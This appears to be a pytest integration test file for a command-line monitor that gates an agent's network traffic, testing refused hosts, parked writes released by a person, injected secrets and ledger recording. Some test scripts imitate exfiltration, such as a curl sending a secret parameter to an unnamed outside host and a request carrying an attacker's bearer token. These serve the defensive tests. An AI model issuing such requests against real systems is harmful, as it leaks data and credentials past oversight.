"""The network through the command line: passed, refused, asked, parked, sent, and what the ledger says of each."""

from __future__ import annotations

import json
import os
import pty
import select
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from tests.integration.conftest import Cli, answers, in_one_standing


class Far:
    """A server of the host's own. Takes: `seen`, method, path, headers and body of what reached it."""

    def __init__(self, port: int = 0) -> None:
        self.seen: list[tuple[str, str, dict[str, str], bytes]] = []
        self.slow = threading.Event()
        far = self

        class Answering(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", "0")))
                far.seen.append(
                    (self.command, self.path, {k.lower(): v for k, v in self.headers.items()}, body)
                )
                if self.path == "/hang":
                    far.slow.wait(20)
                text = b'{"id": 7, "path": "%s"}' % self.path.encode()
                self.send_response(500 if self.path == "/broken" else 201 if self.command == "POST" else 200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(text)))
                self.end_headers()
                self.wfile.write(text)

            do_GET = do_POST = do_PUT = do_DELETE = answer

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Answering)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.02,))
        self.thread.start()

    def close(self) -> None:
        self.slow.set()
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()

    @property
    def calls(self) -> list[str]:
        return [f"{method} {path}" for method, path, _headers, _body in self.seen]

    @property
    def at(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def far() -> Iterator[Far]:
    made = Far()
    yield made
    made.close()


READS_ALONE = """trusted: [{task: true}]
cedar: |
  @id("files-and-reads")
  permit(principal, action, resource) when { context.channel == "file" || context.operation == "read" };
"""


def policy(
    cli: Cli,
    far: Far,
    host: str = 'methods: ["*"]',
    *,
    more: str = "",
    rules: str = "",
    preset: str = "coding",
) -> str:
    path = os.path.join(cli.base, "policy.yaml")
    with open(path, "w", encoding="utf-8") as file:
        file.write(
            f"version: 1\npreset: {preset}\nenvironment: {{pass: [PATH, HOME, TERM]}}\nnetwork:\n"
            f'  hosts: [{{host: "127.0.0.1", port: {far.port}, {host}}}]\n'
            f'  publish: [{{port: {far.port}, to: "127.0.0.1:{far.port}"}}]\n{more}\n{rules}'
        )
    cli.own()
    return path


def effects(cli: Cli) -> list[tuple[str, str]]:
    return [(item["operation"], item["fate"]) for item in cli.story()["effects"]]


def test_a_read_passes_and_is_on_record_with_its_answer(cli: Cli, far: Far) -> None:
    done = cli("run", "--policy", policy(cli, far), "--", "curl", "-s", f"{far.at}/a?b=1")
    assert (done.returncode, json.loads(done.stdout)["path"]) == (0, "/a?b=1")
    assert far.calls == ["GET /a?b=1"]
    (effect,) = cli.story()["effects"]
    assert (effect["operation"], effect["fate"], effect["response"]["status"]) == ("net.read", "sent", 200)
    assert cli.verdict("last", "--replay") == "complete"


def test_a_host_that_nobody_names_is_refused_and_the_command_reads_why(cli: Cli, far: Far) -> None:
    script = cli.put(
        "agent.sh", "curl -s -w '%{http_code}' http://elsewhere.example/x?secret=1; echo; exit 0\n"
    )
    done = cli("run", "--policy", policy(cli, far), "--task", "look around", "--", "sh", script)
    assert done.returncode == 0, done.stderr
    text = done.stdout.decode().strip()
    assert text.endswith("403")
    told = json.loads(text[:-3])
    assert told["status"] == 403
    assert {"violated_rule", "rationale", "constraints", "allowed_objective"} <= told.keys()
    assert b"refused 1 request," in done.stderr
    assert far.calls == []
    assert effects(cli) == [("net.read", "refused")]
    assert cli.verdict("last", "--replay") == "complete"


@in_one_standing
def test_a_rule_refuses_by_method(cli: Cli, far: Far) -> None:
    rules = (
        'cedar: |\n  @id("no-deletes")\n  forbid(principal, action, resource)\n'
        '  when { context.method == "DELETE" };\n'
    )
    done = cli(
        "run", "--policy", policy(cli, far, rules=rules), "--",
        "curl", "-s", "-o", "out.json", "-w", "%{http_code}", "-X", "DELETE", f"{far.at}/x",
    )  # fmt: skip
    assert done.stdout == b"403"
    assert json.loads(cli.get("out.json"))["violated_rule"] == "no-deletes"
    assert far.calls == []


def test_what_leaves_is_in_the_ledger_before_it_leaves(cli: Cli, far: Far) -> None:
    """A monitor that is killed while the far side answers leaves the request on record."""
    with subprocess.Popen(
        cli.words("run", "--policy", policy(cli, far), "--", "curl", "-s", f"{far.at}/hang"),
        cwd=cli.workspace, env=cli.environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        **cli.identity(),
    ) as running:  # fmt: skip
        for _ in range(400):
            if far.calls:
                break
            time.sleep(0.02)
        running.kill()
        running.wait()
    assert far.calls == ["GET /hang"]
    far.slow.set()
    assert effects(cli) == [("net.read", "unknown")]
    assert cli.verdict() == "unfinished"
    assert cli("discard", "last").returncode == 0
    assert cli.verdict("last", "--replay") == "complete"


PARK = "park: [POST]"


def parking(cli: Cli, far: Far, script: str, *options: str) -> subprocess.CompletedProcess[bytes]:
    path = cli.put("agent.sh", script)
    # A published port is vouched for; only the rules keep its writes back here.
    parks = policy(cli, far, PARK, rules=READS_ALONE, preset="none")
    return cli("run", "--policy", parks, "--task", "t", *options, "--", "sh", path)


def test_a_parked_request_gets_a_placeholder_and_leaves_after_the_files(cli: Cli, far: Far) -> None:
    script = f"curl -s -d one=1 {far.at}/issues > placeholder.json; curl -s -d two=2 {far.at}/comments >> more.json\n"
    who = answers(cli, "- {match: 'net.write **', answer: release}\n")
    done = parking(cli, far, script, "--oracle", who, "--json")
    assert done.returncode == 0, done.stderr
    assert "http://interlock.internal/requests/e1" in cli.get("placeholder.json")
    assert far.calls == ["POST /issues", "POST /comments"]
    assert [body for _m, _p, _h, body in far.seen] == [b"one=1", b"two=2"]
    keys = [headers["idempotency-key"] for _m, _p, headers, _b in far.seen]
    assert len(set(keys)) == 2
    assert [item["outcome"] for item in cli.outcome(done)["sent"]] == ["done", "done"]
    assert ("net.write", "sent") in effects(cli)
    assert cli.verdict("last", "--replay") == "complete"


def test_a_parked_request_that_nobody_releases_is_never_sent(cli: Cli, far: Far) -> None:
    done = parking(cli, far, f"curl -s -d x=1 {far.at}/issues; echo; echo done > a.txt\n")
    assert done.returncode == 6
    assert far.calls == []
    assert cli.get("a.txt") == "done\n"
    assert effects(cli)[0] == ("net.write", "refused")


@in_one_standing
def test_a_held_run_sends_what_is_applied_later(cli: Cli, far: Far) -> None:
    done = parking(cli, far, f"curl -s -d x=1 {far.at}/issues; echo; echo done > a.txt\n", "--hold")
    assert done.returncode == 0, done.stderr
    assert far.calls == []
    listed = cli("diff", "last", "--json")
    assert {item["operation"] for item in json.loads(listed.stdout)} == {"net.write", "create"}
    first = cli("apply", "last", "a.txt")
    assert first.returncode == 0, first.stderr
    assert (cli.get("a.txt"), far.calls) == ("done\n", [])
    second = cli("apply", "last", "e1", "--json")
    assert second.returncode == 0, second.stderr
    assert far.calls == ["POST /issues"]
    assert json.loads(second.stdout)["sent"][0]["outcome"] == "done"
    assert cli("discard", "last").returncode == 0
    assert cli.verdict("last", "--replay") == "complete"


@in_one_standing
def test_a_discarded_run_sends_nothing(cli: Cli, far: Far) -> None:
    parking(cli, far, f"curl -s -d x=1 {far.at}/issues\n", "--hold")
    assert cli("discard", "last").returncode == 0
    assert far.calls == []
    assert effects(cli) == [("net.write", "discarded")]


@in_one_standing
def test_a_parked_request_that_fails_leaves_the_scope_stuck_until_it_is_dropped(cli: Cli, far: Far) -> None:
    parking(cli, far, f"curl -s -d x=1 {far.at}/one; curl -s -d x=2 {far.at}/two\n", "--hold")
    far.close()
    done = cli("apply", "last", "--json")
    assert done.returncode == 5, done.stderr
    told = json.loads(done.stdout)
    assert told["sent"] == [{"effect": "e1", "url": f"{far.at}/one", "outcome": "failed"}]
    assert "--retry e1" in told["stuck"]
    assert [fate for _operation, fate in effects(cli)] == ["failed", "held"]
    again = cli("apply", "last")
    assert (again.returncode, b"--drop e1" in again.stderr) == (5, True), again.stderr
    dropped = cli("recover", "last", "--drop", "e1")
    assert dropped.returncode == 0, dropped.stderr
    assert [fate for _operation, fate in effects(cli)] == ["failed", "refused"]
    assert cli.verdict("last", "--replay") == "complete"


@in_one_standing
def test_a_parked_request_that_failed_is_sent_once_more_by_choice(cli: Cli, far: Far) -> None:
    parking(cli, far, f"curl -s -d x=1 {far.at}/one; curl -s -d x=2 {far.at}/two\n", "--hold")
    far.close()
    assert cli("apply", "last").returncode == 5
    again = Far(far.port)
    try:
        done = cli("recover", "last", "--retry", "e1")
        assert done.returncode == 0, done.stderr + done.stdout
        assert again.calls == ["POST /one", "POST /two"]
        keys = [headers.get("idempotency-key") for _m, _p, headers, _b in again.seen]
        assert len(set(keys)) == 2
    finally:
        again.close()
    assert [fate for _operation, fate in effects(cli)] == ["sent", "sent"]
    assert cli.verdict("last", "--replay") == "complete"


@in_one_standing
def test_a_kill_while_a_parked_request_is_sent_leaves_it_unknown_and_never_sends_it_again(
    cli: Cli, far: Far
) -> None:
    parking(cli, far, f"curl -s -d x=1 {far.at}/hang\n", "--hold")
    with subprocess.Popen(
        cli.words("apply", "last"), cwd=cli.workspace, env=cli.environment(),
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, **cli.identity(),
    ) as running:  # fmt: skip
        for _ in range(400):
            if far.calls:
                break
            time.sleep(0.02)
        running.kill()
        running.wait()
    far.slow.set()
    done = cli("apply", "last")
    assert (done.returncode, b"--retry e1" in done.stderr) == (5, True), done.stderr
    assert effects(cli) == [("net.write", "unknown")]
    assert cli("recover", "last", "--skip", "e1").returncode == 0
    assert far.calls == ["POST /hang"]
    assert effects(cli) == [("net.write", "unknown")]
    assert cli.verdict("last", "--replay") == "complete"


@in_one_standing
def test_reading_the_answer_of_a_parked_request_sends_it_now(cli: Cli, far: Far) -> None:
    script = (
        f"curl -s -d x=1 {far.at}/issues > p.json\n"
        "curl -s http://interlock.internal/requests/e1 > answer.json\n"
        "curl -s http://interlock.internal/notices > notices.json\n"
    )
    who = answers(cli, "- {match: 'net.write **', answer: release}\n")
    done = parking(cli, far, script, "--oracle", who)
    assert done.returncode == 0, done.stderr
    assert json.loads(cli.get("answer.json")) == {"id": 7, "path": "/issues"}
    assert json.loads(cli.get("notices.json")) == {"notices": []}
    assert far.calls == ["POST /issues"]
    assert cli.verdict("last", "--replay") == "complete"


def test_a_placeholder_never_leaves(cli: Cli, far: Far) -> None:
    script = (
        f"curl -s -d x=1 {far.at}/issues > p.json\n"
        f"curl -s -o out.json -w '%{{http_code}}' \"{far.at}/see?of=$(grep -o 'interlock-placeholder[a-z0-9-]*' p.json"
        ' | head -1)"\n'
    )
    who = answers(cli, "- {match: 'net.write **', answer: release}\n")
    done = parking(cli, far, script, "--oracle", who)
    assert done.stdout == b"403"
    assert json.loads(cli.get("out.json"))["violated_rule"] == "placeholder"
    assert far.calls == ["POST /issues"]
    assert cli.verdict("last", "--replay") == "complete"


def test_a_secret_is_put_in_outside_and_never_seen_inside(cli: Cli, far: Far) -> None:
    more = '  secrets: [{name: api, hosts: ["127.0.0.1"], from: REAL_KEY, as: API_KEY}]'
    script = cli.put(
        "agent.sh",
        f'echo "$API_KEY"; curl -s -H "Authorization: Bearer $API_KEY" {far.at}/me; env > env.txt\n',
    )
    done = cli(
        "run", "--policy", policy(cli, far, more=more), "--", "sh", script,
        environment={"REAL_KEY": "sk-very-real-1234567890"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert far.seen[0][2]["authorization"] == "Bearer sk-very-real-1234567890"
    assert b"very-real" not in done.stdout
    assert "very-real" not in cli.get("env.txt")
    nodes = cli("show", "last", "--nodes")
    assert b"very-real" not in nodes.stdout
    assert b"sha256:" in nodes.stdout


@in_one_standing
def test_another_key_on_a_host_with_a_bound_one_is_never_released_by_policy_alone(cli: Cli, far: Far) -> None:
    more = '  secrets: [{name: api, hosts: ["127.0.0.1"], from: REAL_KEY, as: API_KEY}]'
    script = cli.put(
        "agent.sh",
        f'curl -s -o /dev/null -w "%{{http_code}} " -H "Authorization: Bearer $API_KEY" {far.at}/mine\n'
        f'curl -s -o out.json -w "%{{http_code}}" -H "Authorization: Bearer sk-of-the-attacker-12345" {far.at}/theirs\n',
    )
    done = cli(
        "run", "--policy", policy(cli, far, more=more), "--", "sh", script,
        environment={"REAL_KEY": "sk-very-real-1234567890"},
    )  # fmt: skip
    assert done.stdout == b"200 403"
    assert far.calls == ["GET /mine"]
    theirs = cli.story()["effects"][1]
    assert [facet["kind"] for facet in theirs["facets"]] == ["foreign-credential"]
    assert "sk-of-the-attacker" not in cli("show", "last", "--nodes").stdout.decode()


@in_one_standing
def test_calls_to_the_model_are_recognised_recorded_and_never_parked(cli: Cli, far: Far) -> None:
    more = f'  models: ["127.0.0.1:{far.port}"]'
    script = cli.put(
        "agent.sh",
        f"curl -s -o /dev/null -w '%{{http_code}} ' -d '{{}}' {far.at}/v1/chat/completions\n"
        f"curl -s -o /dev/null -w '%{{http_code}}' -d '{{}}' {far.at}/v1/files\n",
    )
    parks = policy(
        cli, far, PARK, more=more, preset="none",
        rules=READS_ALONE.replace('"read" }', '"read" || context.operation == "model" }'),
    )  # fmt: skip
    done = cli("run", "--policy", parks, "--task", "t", "--", "sh", script)
    # The upload to the same host is no inference call: it waits as any other write.
    assert done.stdout == b"201 202"
    assert far.calls == ["POST /v1/chat/completions"]
    assert effects(cli)[0] == ("net.model", "sent")


@in_one_standing
def test_a_model_that_cannot_be_had_is_answered_and_not_hung(cli: Cli, far: Far) -> None:
    more = f'  models: ["127.0.0.1:{far.port}"]'
    path = policy(cli, far, more=more)
    far.close()
    began = time.monotonic()
    done = cli(
        "run", "--policy", path, "--task", "t", "--",
        "curl", "-s", "-o", "out.json", "-w", "%{http_code}", "-d", "{}", f"{far.at}/v1/messages",
    )  # fmt: skip
    assert done.stdout == b"502"
    assert time.monotonic() - began < 15
    assert json.loads(cli.get("out.json"))["source"] == "interlock"


def test_a_secret_that_is_not_there_stops_the_start(cli: Cli, far: Far) -> None:
    more = '  secrets: [{name: api, hosts: ["127.0.0.1"], from: NO_SUCH_KEY}]'
    done = cli("run", "--policy", policy(cli, far, more=more), "--", "touch", "ran")
    assert done.returncode == 2
    assert b"NO_SUCH_KEY" in done.stderr
    assert not cli.has("ran")


def test_the_host_s_own_loopback_is_not_there(cli: Cli, far: Far) -> None:
    done = cli("run", "--task", "t", "--", "curl", "-sS", "-m", "5", f"{far.at}/x")
    assert done.returncode == 7, done.stdout
    assert far.calls == []


@in_one_standing
def test_traffic_that_cannot_be_read_is_refused_and_told(cli: Cli, far: Far) -> None:
    script = cli.put(
        "agent.py",
        "import socket\n"
        "s = socket.create_connection(('203.0.113.7', 25), 5)\n"
        "s.sendall(b'EHLO x\\r\\n')\n"
        "try: print(s.recv(10))\n"
        "except ConnectionResetError: print('reset')\n",
    )
    done = cli("run", "--policy", policy(cli, far), "--", "python3", script)
    assert done.stdout in (b"reset\n", b"b''\n")
    (unread,) = cli.story()["unreadable_traffic"]
    assert (unread["host"], unread["port"]) == ("203.0.113.7", 25)


def test_the_ledger_is_lost_and_nothing_more_leaves(cli: Cli, far: Far) -> None:
    """The ledger's disk fails in mid-run: the command ends, what had not been recorded never left."""
    script = cli.put(
        "agent.sh",
        f"curl -s {far.at}/first; echo up; sleep 0.5; read go; curl -s {far.at}/second; echo over\n",
    )
    with subprocess.Popen(
        cli.words("run", "--policy", policy(cli, far), "--", "sh", script),
        cwd=cli.workspace, env=cli.environment(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, **cli.identity(),
    ) as running:  # fmt: skip
        assert running.stdout is not None
        assert running.stdin is not None
        while b"up" not in running.stdout.readline():
            pass
        # A limit of the process itself stands in for the full disk.
        (run,) = os.listdir(os.path.join(cli.state, "runs"))
        size = max(
            os.path.getsize(os.path.join(folder, name))
            for folder, _names, files in os.walk(os.path.join(cli.state, "runs", run, "ledger"))
            for name in files
        )
        subprocess.run(
            ["prlimit", f"--pid={running.pid}", f"--fsize={size}:{size}"], check=True, **cli.identity()
        )
        running.stdin.write(b"go\n")
        running.stdin.close()
        error = running.stderr.read() if running.stderr is not None else b""
        status = running.wait()
    assert status == 4, error
    assert b"ledger" in error
    assert far.calls == ["GET /first"]


def _at_a_terminal(cli: Cli, keys: list[tuple[bytes, bytes]], *words: str) -> tuple[str, int]:
    """Run at a terminal of its own. Takes: `keys`, what to type when a text has appeared."""
    pid, terminal = pty.fork()
    if pid == 0:
        try:
            os.chdir(cli.workspace)
            if os.geteuid() == 0 and cli.uid:
                os.setgroups([])
                os.setgid(cli.uid)
                os.setuid(cli.uid)
            os.execve(cli.interpreter, cli.words(*words), {**cli.environment(), "TERM": "xterm"})
        finally:
            os._exit(99)
    text = b""
    wanted = list(keys)
    deadline = time.monotonic() + 40
    while time.monotonic() < deadline:
        ready, _, _ = select.select([terminal], [], [], 0.2)
        if ready:
            try:
                part = os.read(terminal, 4096)
            except OSError:
                break
            if not part:
                break
            text += part
        if wanted and wanted[0][0] in text:
            time.sleep(0.2)
            os.write(terminal, wanted.pop(0)[1])
    else:
        os.kill(pid, signal.SIGKILL)
    _, status = os.waitpid(pid, 0)
    os.close(terminal)
    return text.decode(errors="replace"), os.waitstatus_to_exitcode(status)


def test_a_person_is_asked_in_mid_run_and_the_command_stands_still(cli: Cli, far: Far) -> None:
    # No rule permits the write, so it waits for a person.
    path = policy(cli, far, rules=READS_ALONE, preset="none")
    script = cli.put("agent.sh", f"curl -s -d x=1 {far.at}/asked; echo; echo and-on\n")
    text, status = _at_a_terminal(
        cli,
        [(b"help] >", b"a\n"), (b"confirm? [y/n]", b"y\n")],
        "run", "--policy", path, "--task", "t", "--", "sh", script,
    )  # fmt: skip
    assert "the agent is stopped until you answer" in " ".join(text.split())
    assert '"path": "/asked"' in text
    assert "and-on" in text
    assert far.calls == ["POST /asked"]
    assert status == 0


@in_one_standing
def test_ctrl_c_at_the_question_refuses_and_the_command_goes_on(cli: Cli, far: Far) -> None:
    script = cli.put("agent.sh", "curl -s -w '%{http_code}' http://elsewhere.example/; echo; echo and-on\n")
    text, status = _at_a_terminal(
        cli, [(b"help] >", b"\x03")], "run", "--policy", policy(cli, far), "--task", "t", "--", "sh", script
    )
    assert "elsewhere.example" in text
    assert "403" in text
    assert "and-on" in text
    assert status == 0
